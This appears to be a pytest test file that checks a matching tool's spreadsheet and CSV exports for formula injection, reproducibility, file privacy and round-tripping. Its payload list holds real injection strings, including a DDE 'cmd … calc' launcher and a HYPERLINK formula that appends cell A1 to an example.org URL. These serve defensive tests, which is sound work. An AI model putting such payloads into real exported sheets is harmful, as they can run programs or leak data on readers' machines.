"""Sheets as files: private, the same every time, inert in every program, and read back as they were."""

from __future__ import annotations

import builtins
import csv
import io
import re
import shutil
import subprocess
import time as clock
import zipfile
from datetime import date, datetime, time
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from matchengine.errors import DataError, MissingExtraError
from matchengine.io import (
    Contact,
    ContactSheet,
    Mapping,
    Sheet,
    read_people,
    read_relationships,
    safe_cell,
    sheets_of_readiness,
    sheets_of_run,
    sheets_of_suggestions,
    write_csv,
    write_suggestions_csv,
    write_xlsx,
)
from matchengine.io.mapping import parse_mapping
from matchengine.io.write_sheets import plain_cell
from matchengine.records import Fingerprint, Reason, Relationship, Suggestion
from matchengine.records.explanation import Change, Obstacle
from matchengine.records.run import Balance, Draft, Readiness, RuleEffect, Run, Stuck, Thin

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\0",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\xa0+",
    "\u200b-",
    "'=",
    "''@",
    "_x003D_",
)
BODIES = (
    "1+1",
    'HYPERLINK("http://example.org/?"&A1,"open")',
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)*cmd",
)
PAYLOADS = [start + body for start in STARTS for body in BODIES]
IDS = ["=id", "+id", "-id", "'=id", "＝id", "''-id", "_x002B_id", "plain-id"]
FORMULA_START = re.compile(r"'*(?:[\t\r\n\0]|[\s\u200b\ufeff\0]*(?:[=+\-@＝＋－＠]|_x[0-9a-fA-F]{4}_))")
AS_OF = date(2026, 3, 2)
FINGERPRINT = Fingerprint(config="c0ffee", plugins={}, model="m1", generation=7, as_of=AS_OF)
PAIRS_MAPPING = """
reads = "relationships"
ignore = [
  "requester_name", "requester_email", "candidate_name", "candidate_email", "rank", "score", "confidence", "fit",
  "reasons", "words", "to_confirm", "limits", "valid_until",
]
[columns]
requester_id = "person_id"
candidate_id = "other_id"
kind = { to = "kind", values = { mentor = "mentoring", group = "membership" } }
status = { to = "status", values = { draft = "proposed" } }
[files."*.xlsx"]
sheet = "Pairs"
"""


def mapping(sheet: str = "Pairs") -> Mapping:
    return parse_mapping(PAIRS_MAPPING.replace('"Pairs"', f'"{sheet}"'))


def pair(requester: str, candidate: str, text: str = "Both like maps.", **more: Any) -> Suggestion:
    fields: dict[str, Any] = {
        "rank": 1,
        "requester_id": requester,
        "candidate_id": candidate,
        "kind": "mentor",
        "score": 61.5,
        "confidence": 0.5,
        "fit": "good",
        "neutral": 50,
        "blocks": {},
        "reasons": (Reason(scorer="goals", text=text, words=(text,)),),
        "to_confirm": (text,),
        "limits": (text,),
        "valid_until": date(2026, 3, 30),
    }
    return Suggestion.model_validate({**fields, **more})


def run_of(drafts: tuple[Draft, ...], **more: Any) -> Run:
    requesters = dict.fromkeys(draft.suggestion.requester_id for draft in drafts)
    candidates = dict.fromkeys(draft.suggestion.candidate_id for draft in drafts)
    fields: dict[str, Any] = {
        "kind": "mentor",
        "requester": "mentee",
        "candidate": "mentor",
        "requester_ids": tuple(requesters),
        "candidate_ids": tuple(candidates),
        "drafts": drafts,
        "fingerprint": FINGERPRINT,
    }
    return Run(**{**fields, **more})


def hostile(text: str, person: str) -> tuple[list[Sheet], ContactSheet]:
    """Sheets of both kinds with one text in every place that holds a text, and one id in every place of an id."""
    why, change = (Obstacle(rule="r", text=text),), (Change(about=("r",), text=text),)
    stuck = (Stuck(person_id=person, why=why, changes=change),)
    balance = (Balance(key=text, label=text, demand=1, supply=0),)
    readiness = Readiness(
        **{"kind": text, "requesters": 1, "candidates": 1, "servable": 0},
        **dict.fromkeys(("needs", "fields", "languages", "slots"), balance),
        thin=(Thin(person_id=person, roles=(text,), missing=(text,)),),
        rules=(RuleEffect(rule=text, reason=text, pairs=1, alone=1, starved=1, changes=change),),
        stuck=stuck,
        summary=(text,),
    )
    drafts = (Draft(suggestion=pair(person, "m1", text, kind=text), to_requester=text, to_candidate=text),)
    fingerprint = FINGERPRINT.model_copy(update={"config": text, "model": text})
    more = {"kind": text, "requester": text, "candidate": text, "requester_ids": (person, f"{person}2")}
    run = run_of(drafts, **more, unserved=stuck, readiness=readiness, fingerprint=fingerprint)
    contacts = ContactSheet([Contact(id=one, name=text, email=f"{person}@example.org") for one in (person, "m1")])
    by_hand = Sheet(text, (text, "n"), ((text, -3),))  # records strip their texts; a sheet need not
    return [*sheets_of_run(run, contacts), *sheets_of_readiness(readiness, contacts), by_hand], contacts


def cells_of(path: Path) -> list[list[list[Any]]]:
    book = openpyxl.load_workbook(path)
    return [[list(row) for row in sheet.iter_rows()] for sheet in book.worksheets]


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def in_workbook(text: object) -> object:
    """The text as XML can hold it."""
    if not isinstance(text, str):
        return text
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text).replace("\r", "\n") or None


# -- formulas


def test_there_are_enough_payloads_and_they_are_dangerous() -> None:
    assert len(PAYLOADS) >= 60
    assert all(FORMULA_START.match(payload) for payload in PAYLOADS)


ONE_BODY_EACH = [len(BODIES) * n + n % len(BODIES) for n in range(len(STARTS))]


@pytest.mark.parametrize(
    "number",
    [n if n in ONE_BODY_EACH else pytest.param(n, marks=pytest.mark.slow) for n in range(len(PAYLOADS))],
)
def test_no_text_in_any_place_is_a_formula(tmp_path: Path, number: int) -> None:
    sheets, _ = hostile(PAYLOADS[number], IDS[number % len(IDS)])
    path = tmp_path / "all.xlsx"
    write_xlsx(path, sheets)
    for sheet, rows in zip(sheets, cells_of(path), strict=True):
        assert [[plain_cell(cell.value) for cell in row] for row in rows] == [
            [as_read(value) for value in row] for row in (sheet.header, *sheet.rows)
        ]
        for cell in (cell for row in rows for cell in row if isinstance(cell.value, str)):
            assert cell.data_type == "s"
            assert cell.value.startswith("'") or not FORMULA_START.match(cell.value)
    with zipfile.ZipFile(path) as archive:
        assert not [name for name in archive.namelist() if b"<f>" in archive.read(name)]
    for sheet in sheets:
        write_csv(tmp_path / "one.csv", sheet)
        rows = csv_rows(tmp_path / "one.csv")
        texts = [cell for row in rows for cell in row if cell != "-3"]  # the number, which stays one
        assert not [text for text in texts if FORMULA_START.match(text) and not text.startswith("'")]
        assert [[plain_cell(cell) for cell in row] for row in rows] == [
            ["" if value is None else str(value) for value in row] for row in (sheet.header, *sheet.rows)
        ]


def as_read(value: object) -> object:
    """What a reader gets: text as XML can hold it, dates with a time, and nothing where a text is empty."""
    if isinstance(value, date):
        return datetime.combine(value, time())
    return in_workbook(value)


@given(st.text(st.sampled_from("'=+-@\t\r\n\0＝＠ \xa0\u200b_x003Dab1"), max_size=8) | st.text(max_size=8))
@example("'=1")
@example("_x003D_1")
@example("'' \u200b_x002b_1")
@settings(max_examples=500, deadline=None)
def test_a_safe_cell_is_inert_and_can_be_undone(text: str) -> None:
    safe = safe_cell(text)
    assert isinstance(safe, str)
    assert safe.startswith("'") or not FORMULA_START.match(safe)
    assert plain_cell(safe) == text
    assert safe in (text, "'" + text)


def test_what_is_no_text_stays_what_it_is() -> None:
    assert [safe_cell(cell) for cell in (-3, 2.5, 0, None, "plain", "it's -1")] == [-3, 2.5, 0, "", "plain", "it's -1"]
    assert [plain_cell(cell) for cell in (-3, None, "'tis", "'", "")] == [-3, None, "'tis", "'", ""]
    assert safe_cell(date(2026, 3, 2)) == "2026-03-02"


# -- workbooks


def test_a_workbook_is_typed_laid_out_and_private(tmp_path: Path) -> None:
    path = tmp_path / "run.xlsx"
    run = run_of((Draft(suggestion=pair("e1", "m1", "A long reason. " * 20)),))
    write_xlsx(path, sheets_of_run(run), as_of=AS_OF)
    assert path.stat().st_mode & 0o777 == 0o600
    assert list(tmp_path.iterdir()) == [path]
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Summary", "Pairs", "mentee", "mentor", "Without a suggestion"]
    assert (book.properties.created.date(), book.properties.modified.date()) == (AS_OF, AS_OF)
    summary, pairs = book["Summary"], book["Pairs"]
    assert (summary["B3"].value.date(), summary["B3"].number_format) == (AS_OF, "yyyy-mm-dd")
    assert (summary.auto_filter.ref, pairs.auto_filter.ref) == (None, "A1:M2")
    row = dict(zip((cell.value for cell in pairs[1]), pairs[2], strict=True))
    assert [row[key].data_type for key in ("score", "rank", "valid_until", "reasons")] == ["n", "n", "d", "s"]
    assert (row["score"].value, row["rank"].value) == (61.5, 1)
    assert (row["reasons"].alignment.wrap_text, bool(row["fit"].alignment.wrap_text)) == (True, False)
    assert all(sheet.freeze_panes == "A2" and sheet["A1"].font.bold for sheet in book)
    assert not pairs["A2"].font.bold
    widths = {letter: column.width for letter, column in pairs.column_dimensions.items()}
    assert max(widths.values()) == 60
    assert min(widths.values()) >= 8


def test_equal_sheets_give_equal_bytes_whatever_the_clock_says(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    run = run_of((Draft(suggestion=pair("e1", "m1")),))
    write_xlsx(tmp_path / "1.xlsx", sheets_of_run(run), as_of=AS_OF)
    now = clock.time() + 4_000_000
    monkeypatch.setattr(clock, "time", lambda: now)
    monkeypatch.setattr(clock, "localtime", lambda *_: clock.gmtime(now))
    write_xlsx(tmp_path / "2.xlsx", sheets_of_run(run), as_of=AS_OF)
    write_xlsx(tmp_path / "3.xlsx", sheets_of_run(run))
    write_xlsx(tmp_path / "4.xlsx", sheets_of_run(run), as_of=date(1970, 1, 1))
    first, second, third, fourth = (path.read_bytes() for path in sorted(tmp_path.iterdir()))
    assert first == second
    assert first != third
    assert third == fourth, "before 1980 there is no date in a ZIP archive"


def test_a_cell_that_is_too_long_is_cut_and_nothing_that_xml_forbids_crashes(tmp_path: Path) -> None:
    texts = [
        "x" * 40_000,
        "=" + "😀" * 20_000,
        "a\x00b\x1f\ufffe\uffffc\ud800",
        "\x01",
        "\x01=1",
        "#N/A",
        "#REF!",
        "l\r\nm\rn",
    ]
    path = tmp_path / "cells.xlsx"
    write_xlsx(path, [Sheet("s", ("text",), tuple((text,) for text in texts))])
    ((_, *rows),) = cells_of(path)
    long, wide, *short = (row[0] for row in rows)
    assert long.value == "x" * 32_766 + "…"
    assert wide.value.startswith("'=😀")
    assert wide.value.endswith("😀…")
    assert 32_765 <= len(wide.value.encode("utf-16-le")) // 2 <= 32_767
    assert [cell.value for cell in short] == ["abc", None, "'=1", "#N/A", "#REF!", "l\nm\nn"]
    assert {cell.data_type for cell in short if cell.value} == {"s"}
    write_csv(tmp_path / "cells.csv", Sheet("s", ("text",), (("a\ud800b",),)))
    assert csv_rows(tmp_path / "cells.csv")[1] == ["ab"]


def test_what_cannot_be_a_workbook_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(DataError, match="at least one sheet"):
        write_xlsx(tmp_path / "x.xlsx", [])
    wide = Sheet("s", ("n",) * 16_385, ())
    tall = Sheet("s", ("n",), ((1,),) * 1_048_576)
    for sheet in (wide, tall):
        with pytest.raises(DataError, match="at most 1048575 rows and 16384 columns"):
            write_xlsx(tmp_path / "x.xlsx", [sheet])
    one = Sheet("s", ("n",), ())
    with pytest.raises(DataError, match="cannot be written"):
        write_xlsx(tmp_path / "gone" / "x.xlsx", [one])
    (tmp_path / "folder.xlsx").mkdir()
    with pytest.raises(DataError, match="cannot be written"):
        write_xlsx(tmp_path / "folder.xlsx", [one])
    assert [path.name for path in tmp_path.iterdir()] == ["folder.xlsx"], "nothing half written stays behind"
    plain_import = builtins.__import__

    def no_openpyxl(name: str, *more: Any, **named: Any) -> Any:
        if name.startswith("openpyxl"):
            raise ImportError(name)
        return plain_import(name, *more, **named)

    monkeypatch.setattr("matchengine.io.write_sheets.import_module", no_openpyxl)
    with pytest.raises(MissingExtraError, match=r"matchengine\[tables\]"):
        write_xlsx(tmp_path / "x.xlsx", [one])


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_an_office_program_opens_the_workbook(tmp_path: Path) -> None:
    sheets, _ = hostile("=1+1", "-id")
    write_xlsx(tmp_path / "x.xlsx", sheets)
    office = [str(shutil.which("soffice")), "--headless", f"-env:UserInstallation=file://{tmp_path}/profile"]
    command = [*office, "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"]
    subprocess.run([*command, "--outdir", str(tmp_path), str(tmp_path / "x.xlsx")], check=True, timeout=120)  # noqa: S603
    (pairs,) = tmp_path.glob("x-Pairs.csv")
    assert "'=1+1" in pairs.read_text(encoding="utf-8")


# -- what we export we import


@pytest.mark.parametrize("named", [False, True])
@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_pairs_come_back_as_proposed_relationships(tmp_path: Path, suffix: str, named: bool) -> None:
    pairs = [pair("e1", "m1"), pair("e1", "m2", rank=2), pair("=id", "-id", "=1+1"), pair("e2", "g1", kind="group")]
    contacts = ContactSheet([Contact(id="e1", name="Zora Quill", email="zora@example.org")]) if named else None
    drafts = tuple(Draft(suggestion=one) for one in pairs)
    path = tmp_path / f"run.{suffix}"
    if suffix == "csv":
        write_suggestions_csv(path, pairs, contacts)
    else:
        write_xlsx(path, sheets_of_run(run_of(drafts), contacts))
    for made in (read_relationships(path, mapping(), strict=True), read_relationships(path, strict=True)):
        assert not made.report.failures
        assert made.relationships == EXPECTED


EXPECTED = [
    Relationship(person_id="e1", other_id="m1", kind="mentoring", status="proposed"),
    Relationship(person_id="e1", other_id="m2", kind="mentoring", status="proposed"),
    Relationship(person_id="=id", other_id="-id", kind="mentoring", status="proposed"),
    Relationship(person_id="e2", other_id="g1", kind="membership", status="proposed"),
]


def test_any_sheet_of_the_workbook_can_be_chosen_and_a_wrong_one_is_told(tmp_path: Path) -> None:
    path = tmp_path / "run.xlsx"
    write_xlsx(path, sheets_of_run(run_of((Draft(suggestion=pair("e1", "m1")),))))
    (problem,) = read_relationships(path, mapping("Pears")).report.failures
    assert problem.effect == "file refused"
    assert "'Pears'" in problem.expected
    assert "'Summary', 'Pairs', 'mentee', 'mentor'" in problem.expected
    (person,) = read_people(path, Mapping(files={"run.xlsx": {"sheet": "mentor"}})).people  # type: ignore[dict-item]
    assert person.id == "m1"


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_side_sheets_come_back_as_the_same_people_and_contacts(tmp_path: Path, suffix: str) -> None:
    names = [payload for payload in PAYLOADS if in_workbook(payload) == payload == payload.strip()]
    known = [
        Contact(id=f"{IDS[n % len(IDS)]}{n}", name=name, email=f"{'=+-'[n % 3]}{n}@example.org")
        for n, name in enumerate(names)
    ]
    ids = [contact.id for contact in known]
    contacts = ContactSheet(known)
    drafts = tuple(Draft(suggestion=pair(one, "m1"), to_requester="=1+1") for one in ids)
    run = run_of(drafts, requester_ids=(*ids, "nobody-for-me"))
    looking = sheets_of_run(run, contacts)[2]
    path = tmp_path / f"side.{suffix}"
    if suffix == "csv":
        write_csv(path, looking)
    else:
        write_xlsx(path, [looking])
    made = read_people(path, role="mentee")
    assert [person.id for person in made.people] == [*ids, "nobody-for-me"]
    assert made.contacts == contacts


def test_a_single_persons_list_is_the_same_file_as_ever(tmp_path: Path) -> None:
    write_suggestions_csv(tmp_path / "a.csv", [pair("e1", "m1")])
    write_csv(tmp_path / "b.csv", sheets_of_suggestions([pair("e1", "m1")])[0])
    data = (tmp_path / "a.csv").read_bytes()
    assert data == (tmp_path / "b.csv").read_bytes()
    assert data.startswith(b'\xef\xbb\xbf"requester_id","candidate_id","kind"')
    assert b'\r\n"e1","m1","mentor",1,61.5,0.5,"good",' in data
    assert data.endswith(b'"2026-03-30","draft"\r\n')
    assert (tmp_path / "a.csv").stat().st_mode & 0o777 == 0o600
